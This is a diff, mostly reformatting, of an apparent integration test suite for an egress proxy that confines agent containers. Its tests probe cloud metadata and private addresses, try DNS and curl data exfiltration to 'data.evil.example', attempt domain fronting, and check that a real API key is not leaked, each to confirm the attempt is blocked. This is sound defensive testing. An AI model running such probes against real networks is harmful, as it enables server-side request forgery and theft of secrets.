@@ -21,7 +21,9 @@ const realKey = 'sk-real-47c1f0a2b9'
 const prefix = 'muster-attack'
 const tls = (name: string) => readFileSync(new URL(`../fixtures/tls/${name}`, import.meta.url), 'utf8')
 
-/** A machine that the outside world stands for: its addresses count as public. Echoes headers at 8000, over TLS at 8443. */
+/**
+ * A machine that the outside world stands for: its addresses count as public. Echoes headers at 8000, over TLS at 8443.
+ */
 const outside = `
   const answer = (req, res) => res.end(JSON.stringify({ host: req.headers.host, key: req.headers['x-api-key'] }))
   const http = require('http').createServer(answer)
@@ -64,7 +66,9 @@ beforeAll(async () => {
   await container.start()
   await launch(container, { user: who.root, argv: ['node', '-e', outside] }, 'listening')
   await network.connect({ Container: plain.sidecar.id })
-  const { IPAddress, GlobalIPv6Address } = (await container.inspect()).NetworkSettings.Networks[networkName(crews, sixSpec.crewId)]!
+  const { IPAddress, GlobalIPv6Address } = (await container.inspect()).NetworkSettings.Networks[
+    networkName(crews, sixSpec.crewId)
+  ]!
   peer = { container, four: IPAddress, six: GlobalIPv6Address }
   for (const host of ['permitted.example', 'other.example', 'deep.wide.example']) zone[host] = { a: peer.four }
 })
@@ -74,18 +78,29 @@ afterAll(async () => {
   await crews?.close()
 })
 
-const networkOf = async (crew: EngineCrew) => (await crew.sidecar.inspect()).NetworkSettings.Networks[networkName(crews, crew.spec.crewId)]!
+const networkOf = async (crew: EngineCrew) =>
+  (await crew.sidecar.inspect()).NetworkSettings.Networks[networkName(crews, crew.spec.crewId)]!
 
 /** Gives a crew its policy, with the test's own name server. */
 async function allow(crew: EngineCrew, mode: 'restricted' | 'free', allowedDomains: string[] = []): Promise<void> {
   const config = policy(allowedDomains, false, { resolvers: [`${(await networkOf(crew)).Gateway}:${names.port}`] })
   config.network.mode = mode
-  config.agents['dummy-ada']!.credentials.push({ credentialId: 'c1', provider: 'ANTHROPIC', kind: 'api_key', token: realKey, priority: 1 })
+  config.agents['dummy-ada']!.credentials.push({
+    credentialId: 'c1',
+    provider: 'ANTHROPIC',
+    kind: 'api_key',
+    token: realKey,
+    priority: 1,
+  })
   await crews.runtime.configureSidecar(crew.spec.crewId, config)
 }
 
 /** The status with which the proxy answers each request for a tunnel. */
-async function tunnels(crew: EngineCrew, authorities: string[], user: string = who.ada): Promise<Record<string, string>> {
+async function tunnels(
+  crew: EngineCrew,
+  authorities: string[],
+  user: string = who.ada,
+): Promise<Record<string, string>> {
   const code = `const ask = (it) => new Promise((done) => {
       const s = require('net').connect(9119, '127.0.0.1').on('error', () => done('closed')); s.write('CONNECT ' + it + ' HTTP/1.1\\r\\n\\r\\n')
       s.once('data', (d) => { done(String(d).slice(9, 12)); s.destroy() }) })
@@ -96,15 +111,23 @@ async function tunnels(crew: EngineCrew, authorities: string[], user: string = w
 const all = (names: string[], how: string) => Object.fromEntries(names.map((it) => [it, how]))
 
 /** curl through the proxy, as an agent. */
-const curl = (crew: EngineCrew, args: string) => sh(crew.crew, who.ada, `curl -sk -m 20 -x http://127.0.0.1:9119 ${args}`)
+const curl = (crew: EngineCrew, args: string) =>
+  sh(crew.crew, who.ada, `curl -sk -m 20 -x http://127.0.0.1:9119 ${args}`)
 
 describe.skipIf(engineMissing)('free mode', () => {
   beforeAll(() => allow(plain, 'free'))
 
   it('leads to public places by name and by address, through the sidecar alone', async () => {
-    expect(await tunnels(plain, ['permitted.example:8000', `${peer.four}:8443`])).toEqual(all(['permitted.example:8000', `${peer.four}:8443`], '200'))
+    expect(await tunnels(plain, ['permitted.example:8000', `${peer.four}:8443`])).toEqual(
+      all(['permitted.example:8000', `${peer.four}:8443`], '200'),
+    )
     expect((await curl(plain, 'http://permitted.example:8000/')).stdout).toBe('{"host":"permitted.example:8000"}')
-    const direct = [`tcp ${peer.four} 8000`, `udp ${peer.four} 8000`, `dns ${peer.four} 53`, `tcp-by-lo ${peer.four} 8000`]
+    const direct = [
+      `tcp ${peer.four} 8000`,
+      `udp ${peer.four} 8000`,
+      `dns ${peer.four} 53`,
+      `tcp-by-lo ${peer.four} 8000`,
+    ]
     expect(await attempt(plain.sidecar, who.sidecar, [direct[0]!])).toEqual(all([direct[0]!], 'connected'))
     for (const user of [who.ada, who.root, who.watcher]) {
       expect(Object.values(await attempt(plain.crew, user, direct)).filter((it) => through.test(it))).toEqual([])
@@ -118,7 +141,9 @@ describe.skipIf(engineMissing)('free mode', () => {
     await once(tcp, 'listening')
     const { port } = tcp.address() as AddressInfo
     const own = await networkOf(plain)
-    const machine = Object.values(networkInterfaces()).flatMap((list) => list!.filter((it) => it.family === 'IPv4' && !it.internal).map((it) => it.address))
+    const machine = Object.values(networkInterfaces()).flatMap((list) =>
+      list!.filter((it) => it.family === 'IPv4' && !it.internal).map((it) => it.address),
+    )
     const inward = [
       ...machine.filter((it) => classify(it) !== 'public'),
       own.Gateway,
@@ -128,11 +153,32 @@ describe.skipIf(engineMissing)('free mode', () => {
       '192.168.0.1',
       '100.64.0.1',
     ]
-    const never = ['169.254.169.254', '168.63.129.16', '127.0.0.1', 'localhost', '0.0.0.0', '224.0.0.1', '255.255.255.255', '[::1]']
-    const sixes = [`[::ffff:${own.Gateway}]`, `[64:ff9b::${own.Gateway}]`, '[fd00::1]', '[fe80::1]', '[ff02::1]', '[fd00:ec2::254]', '[2002:a00:1::]', '[::]']
+    const never = [
+      '169.254.169.254',
+      '168.63.129.16',
+      '127.0.0.1',
+      'localhost',
+      '0.0.0.0',
+      '224.0.0.1',
+      '255.255.255.255',
+      '[::1]',
+    ]
+    const sixes = [
+      `[::ffff:${own.Gateway}]`,
+      `[64:ff9b::${own.Gateway}]`,
+      '[fd00::1]',
+      '[fe80::1]',
+      '[ff02::1]',
+      '[fd00:ec2::254]',
+      '[2002:a00:1::]',
+      '[::]',
+    ]
     const targets = [...new Set([...inward, ...never, ...sixes])].map((it) => `${it}:${port}`)
     expect(await tunnels(plain, targets)).toEqual(all(targets, '403'))
-    expect(await tunnels(plain, ['127.0.0.11:53', '127.0.0.1:9119'])).toEqual({ '127.0.0.11:53': '403', '127.0.0.1:9119': '403' })
+    expect(await tunnels(plain, ['127.0.0.11:53', '127.0.0.1:9119'])).toEqual({
+      '127.0.0.11:53': '403',
+      '127.0.0.1:9119': '403',
+    })
     expect((await curl(plain, `-o /dev/null -w '%{http_code}' http://${own.Gateway}:${port}/`)).stdout).toBe('403')
     expect(heard).toEqual([])
   })
@@ -161,8 +207,12 @@ describe.skipIf(engineMissing)('free mode', () => {
 
   it('puts a real key into nothing that passes', async () => {
     const headers = `-H 'x-api-key: dummy-ada' -H 'authorization: Bearer dummy-ada'`
-    expect((await curl(plain, `${headers} http://permitted.example:8000/v1/messages`)).stdout).toBe('{"host":"permitted.example:8000","key":"dummy-ada"}')
-    expect((await curl(plain, `${headers} https://permitted.example:8443/v1/messages`)).stdout).toBe('{"host":"permitted.example:8443","key":"dummy-ada"}')
+    expect((await curl(plain, `${headers} http://permitted.example:8000/v1/messages`)).stdout).toBe(
+      '{"host":"permitted.example:8000","key":"dummy-ada"}',
+    )
+    expect((await curl(plain, `${headers} https://permitted.example:8443/v1/messages`)).stdout).toBe(
+      '{"host":"permitted.example:8443","key":"dummy-ada"}',
+    )
   })
 })
 
@@ -185,20 +235,34 @@ describe.skipIf(engineMissing)('a crew network with IPv6', () => {
       `dns ${peer.six} 53`,
       `tcp-by-lo ${peer.six} 8000`,
     ]
-    const links = ['udp ff02::1%eth0 9', 'udp ff02::2%eth0 9', 'udp fe80::1%eth0 9', 'tcp fe80::1%eth0 80', 'udp ff05::1:3%eth0 547']
+    const links = [
+      'udp ff02::1%eth0 9',
+      'udp ff02::2%eth0 9',
+      'udp fe80::1%eth0 9',
+      'tcp fe80::1%eth0 80',
+      'udp ff05::1:3%eth0 547',
+    ]
     await expect.poll(async () => (await attempt(six.sidecar, who.sidecar, [ways[0]!]))[ways[0]!]).toBe('connected') // once its address is settled
     for (const user of [who.ada, who.root, who.watcher]) {
-      expect(Object.entries(await attempt(six.crew, user, [...ways, ...links])).filter(([, how]) => through.test(how))).toEqual([])
+      expect(
+        Object.entries(await attempt(six.crew, user, [...ways, ...links])).filter(([, how]) => through.test(how)),
+      ).toEqual([])
     }
     // Where the list of system calls does not help: a stranger in the sidecar's own container.
-    expect(Object.values(await attempt(six.sidecar, who.ada, [`ping ${peer.six}`, `udplite ${peer.six} 9`])).filter((it) => it === 'answered')).toEqual([])
+    expect(
+      Object.values(await attempt(six.sidecar, who.ada, [`ping ${peer.six}`, `udplite ${peer.six} 9`])).filter(
+        (it) => it === 'answered',
+      ),
+    ).toEqual([])
   })
 
   it('lets nobody in', async () => {
     const { GlobalIPv6Address } = await networkOf(six)
     expect((await sh(six.crew, who.ada, `curl -sg 'http://[${GlobalIPv6Address}]:8000/'`)).stdout).toBe('inside')
     const ways = [`tcp ${GlobalIPv6Address} 8000`, `tcp ${GlobalIPv6Address} 9119`, `ping ${GlobalIPv6Address}`]
-    expect(Object.values(await attempt(peer.container, who.root, ways)).filter((it) => /connected|answered/.test(it))).toEqual([])
+    expect(
+      Object.values(await attempt(peer.container, who.root, ways)).filter((it) => /connected|answered/.test(it)),
+    ).toEqual([])
   })
 
   it('is under the same policy', async () => {
@@ -219,7 +283,10 @@ describe.skipIf(engineMissing)('a server name that is not the tunnel’s host', 
     expect((await curl(plain, 'https://permitted.example:8443/')).stdout).toBe('{"host":"permitted.example:8443"}')
     expect((await curl(plain, `https://${peer.four}:8443/`)).stdout).toBe(`{"host":"${peer.four}:8443"}`)
     plain.reports.length = 0
-    const fronted = await curl(plain, '--connect-to forbidden.example:443:permitted.example:8443 https://forbidden.example/')
+    const fronted = await curl(
+      plain,
+      '--connect-to forbidden.example:443:permitted.example:8443 https://forbidden.example/',
+    )
     expect(fronted).toMatchObject({ code: 35, stdout: '' }) // a TLS handshake that failed
     await curl(plain, `--connect-to other.example:443:permitted.example:8443 https://other.example/`)
     await curl(plain, `--connect-to other.example:443:${peer.four}:8443 https://other.example/`)
@@ -231,7 +298,9 @@ describe.skipIf(engineMissing)('a server name that is not the tunnel’s host', 
       reason: `a TLS client in a tunnel to ${host} asks for ${name}`,
       unreported: expect.any(Number),
     })
-    await expect.poll(() => plain.reports).toEqual([denied('permitted.example', 'forbidden.example'), denied(peer.four, 'other.example')])
+    await expect
+      .poll(() => plain.reports)
+      .toEqual([denied('permitted.example', 'forbidden.example'), denied(peer.four, 'other.example')])
   })
 
   it('is looked for in TLS only: a server that speaks first is heard', async () => {
@@ -248,17 +317,30 @@ describe.skipIf(engineMissing)('names that carry data', () => {
     names.asked.length = 0
     const { Gateway } = await networkOf(plain)
     for (const user of [who.ada, who.root]) {
-      const ways = ['127.0.0.11', Gateway, peer.four, '8.8.8.8'].flatMap((it) => [`dns ${it} 53`, `dnstcp ${it} 53`, `dns ${it} ${names.port}`])
+      const ways = ['127.0.0.11', Gateway, peer.four, '8.8.8.8'].flatMap((it) => [
+        `dns ${it} 53`,
+        `dnstcp ${it} 53`,
+        `dns ${it} ${names.port}`,
+      ])
       expect(Object.values(await attempt(plain.crew, user, ways)).filter((it) => through.test(it))).toEqual([])
     }
-    const looked = await sh(plain.crew, who.ada, 'getent hosts data.evil.example || echo none; curl -s http://data2.evil.example/ || echo none')
+    const looked = await sh(
+      plain.crew,
+      who.ada,
+      'getent hosts data.evil.example || echo none; curl -s http://data2.evil.example/ || echo none',
+    )
     expect(looked.stdout).toBe('none\nnone\n')
     expect(names.asked).toEqual([])
   })
 
   it('are never asked for when the policy refuses them', async () => {
     names.asked.length = 0
-    const refused = ['data.evil.example:443', 'data.permitted.example:443', 'wide.example:443', 'data.wide.example.evil.example:443']
+    const refused = [
+      'data.evil.example:443',
+      'data.permitted.example:443',
+      'wide.example:443',
+      'data.wide.example.evil.example:443',
+    ]
     expect(await tunnels(plain, refused)).toEqual(all(refused, '403'))
     expect((await curl(plain, '-o /dev/null -w "%{http_code}" http://data.evil.example/')).stdout).toBe('403')
     expect(names.asked).toEqual([])
@@ -278,7 +360,11 @@ describe.skipIf(engineMissing)('names that carry data', () => {
     expect([...asked]).toEqual(wanted.slice(0, asked.size).map((it) => it.replace(':443', '')))
     expect(Object.values(out).filter((it) => it === '403')).toHaveLength(61 - asked.size)
     await expect.poll(() => plain.reports.length).toBeGreaterThan(0)
-    expect(plain.reports[0]).toMatchObject({ type: 'egress_denied', agentId: 'agent-bob', reason: expect.stringContaining('new names below wildcards') })
+    expect(plain.reports[0]).toMatchObject({
+      type: 'egress_denied',
+      agentId: 'agent-bob',
+      reason: expect.stringContaining('new names below wildcards'),
+    })
     expect(await tunnels(plain, ['deep.wide.example:8000'])).toEqual({ 'deep.wide.example:8000': '200' }) // another agent's are not used up
   })
 })
@@ -297,7 +383,11 @@ describe.skipIf(engineMissing)('connections that say little', () => {
       ]).then(() => console.log(JSON.stringify(lives)))`
     const lives = node(plain.crew, who.ada, code)
     const health = `curl -s -m 5 http://127.0.0.1:9119/health`
-    await expect.poll(async () => (await sh(plain.sidecar, who.sidecar, "grep -c ' 0100007F:239F .* 01 ' /proc/net/tcp")).stdout.trim()).toMatch(/^[45]\d\d$/)
+    await expect
+      .poll(async () =>
+        (await sh(plain.sidecar, who.sidecar, "grep -c ' 0100007F:239F .* 01 ' /proc/net/tcp")).stdout.trim(),
+      )
+      .toMatch(/^[45]\d\d$/)
     expect((await sh(plain.crew, who.bob, health)).stdout).toBe('{"ok":true,"configured":true}')
     const durations = Object.values(JSON.parse(await lives) as Record<string, number>)
     expect(durations).toHaveLength(506)
